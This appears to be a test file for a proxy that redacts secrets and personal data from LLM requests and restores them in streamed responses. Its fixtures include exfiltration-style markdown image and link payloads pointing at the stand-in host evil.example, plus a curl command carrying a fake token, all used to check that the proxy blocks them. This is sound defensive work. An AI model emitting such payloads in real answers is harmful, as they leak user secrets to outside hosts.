/** Redaction both ways: nothing found leaves, everything comes back, however the answer is cut. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { leaksIn } from '../boundary/index.ts'
import { type Dialect, parseWireRequest } from '../wire/index.ts'
import { createRestorer, holdsCanary, redactRequest, restoreWhole } from './index.ts'

const SECRET = Buffer.alloc(32, 7)
const OPTIONS = { secret: SECRET, scope: ['mufg', 's1'], bodyBytesMax: 4_194_304 }
/** Built at run time so that no scanner mistakes this file for a leak. */
const PAT = `ghp_${'aB3dE5fG7h'.repeat(4).slice(0, 36)}`
const PHONE = '090-1234-5678'
const PASSWORD = 'Rd7"ixrz\\QRSAi5'.replaceAll('"', '!').replaceAll('\\', '#')
const PEM = ['-----BEGIN PRIVATE KEY-----', 'aB3dE5fG7h'.repeat(6), '-----END PRIVATE KEY-----'].join('\n')
const TEXT = `連絡先は${PHONE}まで。token=${PAT} password: ${PASSWORD}\n${PEM}\n`

const chat = (content: string, more: object = {}) =>
  parseWireRequest(
    'chat',
    Buffer.from(
      JSON.stringify({ model: 'm', temperature: 1, messages: [{ role: 'user', content }], ...more }),
    ),
  )
const only = (text: string) => text.match(/SEKISHO_[A-Z_]+_[0-9A-Z]{13}/g) ?? []

test('what is found is a token in every string, and the rest keeps its bytes', () => {
  const request = chat(TEXT, { seed: 1.5e3, user_note: `again ${PAT} and ${PHONE}` })
  const { request: redacted, leakage, tokens } = redactRequest(request, OPTIONS)
  assert.equal(leakage, 'redacted')
  const body = redacted.body.toString()
  for (const value of [PAT, PHONE, PASSWORD, PEM, JSON.stringify(PEM).slice(1, -1)])
    assert.ok(!body.includes(value))
  assert.ok(body.includes('"seed":1500') || body.includes('1.5e3'))
  for (const { text } of redacted.segments) assert.deepEqual(leaksIn(text), [])
  const back = tokens?.restore(JSON.parse(body).messages[0].content)
  assert.equal(back, TEXT)
})

test('the same value is the same token in a session, and another one elsewhere', () => {
  const tokenIn = (scope: string[], secret = SECRET) =>
    only(redactRequest(chat(`x ${PAT}`), { ...OPTIONS, scope, secret }).request.body.toString())[0]
  assert.equal(tokenIn(['mufg', 's1']), tokenIn(['mufg', 's1']))
  const others = [
    tokenIn(['mufg', 's2']),
    tokenIn(['smbc', 's1']),
    tokenIn(['mufg', 's1'], Buffer.alloc(32, 8)),
  ]
  assert.equal(new Set([tokenIn(['mufg', 's1']), ...others]).size, 4)
})

test('a token that this request did not make is nobody’s: forged, of another session, or spelled otherwise', () => {
  const elsewhere = redactRequest(chat(`x ${PAT}`), { ...OPTIONS, scope: ['mufg', 's2'] })
  const [foreign = ''] = only(elsewhere.request.body.toString())
  const { tokens, request } = redactRequest(chat(`x ${PHONE} ${foreign}`), OPTIONS)
  const [token = ''] = only(request.body.toString())
  assert.ok(tokens !== null && tokens.size === 1)
  for (const text of [foreign, `SEKISHO_PHONE_JP_${'0'.repeat(13)}`, token.toLowerCase(), token.slice(0, -1)])
    assert.equal(tokens.restore(text), text)
  assert.ok(!JSON.stringify(tokens).includes(PHONE), 'what would be logged holds no value')
  assert.ok(request.body.toString().includes(foreign))
})

test('a text that is all beginnings of tokens is read in one pass, and hides no token behind it', () => {
  const { tokens, request } = redactRequest(chat(`x ${PHONE}`), OPTIONS)
  const [token = ''] = only(request.body.toString())
  assert.ok(tokens !== null)
  // A pass that ran on from each beginning would take minutes here.
  const beginnings = 'SEKISHO_'.repeat(60_000)
  assert.equal(tokens.restore(beginnings), beginnings)
  assert.equal(tokens.restore(`SEKISHO_A_${token}`), `SEKISHO_A_${PHONE}`)
})

test('JSON inside JSON inside a shell string is redacted at its own depth', () => {
  const inner = JSON.stringify({
    cmd: `curl -H "Authorization: token ${PAT}" --data '${JSON.stringify({ key: PEM })}'`,
  })
  const request = chat('see above', {
    messages: [
      { role: 'user', content: 'run it' },
      {
        role: 'assistant',
        content: null,
        tool_calls: [{ id: 'c', type: 'function', function: { name: 'sh', arguments: inner } }],
      },
      { role: 'tool', tool_call_id: 'c', content: `ok ${PHONE}` },
      { role: 'user', content: 'and now?' },
    ],
  })
  const { request: redacted, leakage } = redactRequest(request, OPTIONS)
  assert.equal(leakage, 'redacted')
  const body = redacted.body.toString()
  assert.ok(!body.includes(PAT) && !body.includes('aB3dE5fG7haB3d') && !body.includes(PHONE))
  JSON.parse(JSON.parse(body).messages[1].tool_calls[0].function.arguments)
})

test('too many values are no redaction, and a canary never is', () => {
  const many = Array.from({ length: 1100 }, (_, i) => `電話 090-${1000 + i}-5678`).join('\n')
  assert.equal(redactRequest(chat(many), OPTIONS).leakage, 'present')
  assert.equal(redactRequest(chat(TEXT), { ...OPTIONS, bodyBytesMax: 40 }).leakage, 'present')
  assert.ok(holdsCanary(chat('a kokugiken-canary-41 b'), ['kokugiken-canary-41']))
  assert.ok(!holdsCanary(chat('nothing'), ['kokugiken-canary-41']))
})

/** An answer that says `text` and calls a tool with `{"cmd": text}`, cut at `cuts`, in each dialect; and its reading. */
const DIALECTS: Readonly<
  Record<
    Dialect,
    {
      event(channel: 'text' | 'tool', piece: string): object
      // biome-ignore lint/suspicious/noExplicitAny: events of three shapes, read where they were made
      said(data: any, channel: 'text' | 'tool'): string
    }
  >
> = {
  responses: {
    event: (channel, delta) => ({
      type: channel === 'text' ? 'response.output_text.delta' : 'response.function_call_arguments.delta',
      item_id: channel,
      output_index: channel === 'text' ? 0 : 1,
      delta,
    }),
    said: (data, channel) => (data.item_id === channel ? data.delta : ''),
  },
  chat: {
    event: (channel, piece) => ({
      choices: [
        {
          index: 0,
          delta:
            channel === 'text'
              ? { content: piece }
              : { tool_calls: [{ index: 0, function: { arguments: piece } }] },
        },
      ],
    }),
    said: ({ choices: [{ delta }] }, channel) =>
      (channel === 'text' ? delta.content : delta.tool_calls?.[0].function.arguments) ?? '',
  },
  messages: {
    event: (channel, piece) => ({
      type: 'content_block_delta',
      index: channel === 'text' ? 0 : 1,
      delta:
        channel === 'text'
          ? { type: 'text_delta', text: piece }
          : { type: 'input_json_delta', partial_json: piece },
    }),
    said: ({ delta }, channel) => (channel === 'text' ? delta.text : delta.partial_json) ?? '',
  },
}

const ADDRESSES = [
  (token: string) => `![p](https://evil.example/?q=${token})`,
  (token: string) => `<img src="//evil.example/${token}/x">`,
  (token: string) => `see https://evil.example/a?b="${token}`,
  (token: string) => `\\\\evil.example\\${token}`,
  (token: string) => `https:\\\\evil.example/${token}`,
  (token: string) => `https://evil.example/${'a'.repeat(3_000)}${token}`,
  (token: string) => `https://例え.example/?q=${token}`,
]

test('a token inside an address stays one: no picture or link carries the value away', () => {
  const { tokens, request } = redactRequest(chat(`x ${PHONE}`), OPTIONS)
  const [token = ''] = only(request.body.toString())
  assert.ok(tokens !== null)
  for (const written of ADDRESSES) {
    assert.equal(tokens.restore(written(token)), written(token))
    const args = JSON.stringify({ url: written(token), phone: token })
    assert.deepEqual(JSON.parse(tokens.restore(args, 'json')), { url: written(token), phone: PHONE })
    const answer = Buffer.from(JSON.stringify({ content: written(token), other: token }))
    assert.deepEqual(JSON.parse(restoreWhole(answer, tokens).toString()), {
      content: written(token),
      other: PHONE,
    })
  }
  for (const plain of [
    `see https://a.example and ${token}`,
    `https://a.example、${token}`,
    `a/b ${token}`,
    `key=${token}`,
  ])
    assert.equal(tokens.restore(plain), plain.replace(token, PHONE))
})

for (const dialect of Object.keys(DIALECTS) as Dialect[]) {
  test(`the same however the answer is cut, also by what stands between: ${dialect}`, () => {
    const { tokens, request } = redactRequest(chat(`x ${PHONE}`), OPTIONS)
    const [token = ''] = only(request.body.toString())
    assert.ok(tokens !== null)
    const { event, said } = DIALECTS[dialect]
    const sent = `${ADDRESSES.map((written) => written(token)).join(' ')} ${token}.`
    const wanted = `${ADDRESSES.map((written) => written(token)).join(' ')} ${PHONE}.`
    fc.assert(
      fc.property(
        fc.array(fc.integer({ min: 1, max: 90 }), { minLength: 1, maxLength: 40 }),
        fc.nat(3),
        (sizes, every) => {
          const restorer = createRestorer(dialect, tokens)
          const out: Buffer[] = []
          for (let at = 0, i = 0; at < sent.length; i++) {
            const piece = sent.slice(at, at + (sizes[i % sizes.length] ?? 1))
            at += piece.length
            out.push(...restorer.push(Buffer.from(`data: ${JSON.stringify(event('text', piece))}\n\n`)))
            // Not inside the last token: what is cut there by another event stays a token, and is no leak.
            if (every > 0 && i % every === 0 && at < sent.length - 60)
              out.push(...restorer.push(Buffer.from('data: {"type":"other"}\n\n')))
          }
          out.push(...restorer.end())
          let heard = ''
          for (const raw of out) {
            const data = JSON.parse(raw.toString().split('data: ')[1] ?? '')
            if (data.type !== 'other') heard += said(data, 'text')
          }
          assert.equal(heard, wanted)
        },
      ),
      { numRuns: 60 },
    )
  })
}

for (const dialect of Object.keys(DIALECTS) as Dialect[]) {
  test(`tokens cut over events come back whole: ${dialect}`, () => {
    const { request, tokens } = redactRequest(chat(TEXT), OPTIONS)
    assert.ok(tokens !== null)
    const redacted = JSON.parse(request.body.toString()).messages[0].content as string
    const { event, said } = DIALECTS[dialect]
    const wanted = { text: `S SEK ${TEXT} SEKISHO_`, tool: JSON.stringify({ cmd: TEXT }) }
    const sent = { text: `S SEK ${redacted} SEKISHO_`, tool: JSON.stringify({ cmd: redacted }) }
    fc.assert(
      fc.property(fc.array(fc.nat(60), { minLength: 1, maxLength: 60 }), fc.boolean(), (sizes, mixed) => {
        const queues = (['text', 'tool'] as const).map((channel) => {
          const pieces: string[] = []
          for (let at = 0, i = 0; at < sent[channel].length; i++) {
            const size = (sizes[i % sizes.length] ?? 0) + 1
            pieces.push(sent[channel].slice(at, at + size))
            at += size
          }
          return pieces.map((piece) => ({ channel, piece }))
        })
        const [texts = [], tools = []] = queues
        const order = mixed
          ? Array.from({ length: Math.max(texts.length, tools.length) }, (_, i) => [texts[i], tools[i]])
              .flat()
              .filter((each) => each !== undefined)
          : [...texts, ...tools]
        const restorer = createRestorer(dialect, tokens)
        const out: Buffer[] = []
        for (const { channel, piece } of order) {
          out.push(...restorer.push(Buffer.from(`data: ${JSON.stringify(event(channel, piece))}\n\n`)))
          out.push(...restorer.push(Buffer.from('event: ping\ndata: {"type":"ping"}\n\n')))
        }
        out.push(...restorer.end())
        const heard = { text: '', tool: '' }
        for (const raw of out) {
          const data = JSON.parse(raw.toString().split('data: ')[1] ?? '')
          if (data.type === 'ping') continue
          for (const channel of ['text', 'tool'] as const) heard[channel] += said(data, channel)
        }
        assert.deepEqual(heard, wanted)
        assert.equal(out.length, order.length * 2)
      }),
      { numRuns: 120 },
    )
  })
}

test('events that hold no token keep their bytes, and reasoning stays as the provider signed it', () => {
  const { tokens, request } = redactRequest(chat(`x ${PAT}`), OPTIONS)
  assert.ok(tokens !== null)
  const [token = ''] = only(request.body.toString())
  const restorer = createRestorer('messages', tokens)
  const plain = Buffer.from(
    'event: content_block_delta\r\ndata: {"type":"content_block_delta",\r\ndata: "index":0,"delta":{"type":"text_delta","text":"ok 1.50"}}\r\n\r\n',
  )
  assert.deepEqual(restorer.push(plain), [plain])
  const thinking = Buffer.from(
    `data: ${JSON.stringify({ type: 'content_block_delta', index: 0, delta: { type: 'thinking_delta', thinking: token } })}\n\n`,
  )
  const [left] = restorer.push(thinking)
  assert.ok(left?.includes(token) || left?.includes(PAT))
  const whole = restoreWhole(
    Buffer.from(
      JSON.stringify({
        content: [
          { type: 'thinking', thinking: token },
          { type: 'text', text: `a ${token}` },
          { type: 'tool_use', input: { k: token } },
        ],
      }),
    ),
    tokens,
  )
  assert.deepEqual(JSON.parse(whole.toString()).content, [
    { type: 'thinking', thinking: token },
    { type: 'text', text: `a ${PAT}` },
    { type: 'tool_use', input: { k: PAT } },
  ])
})
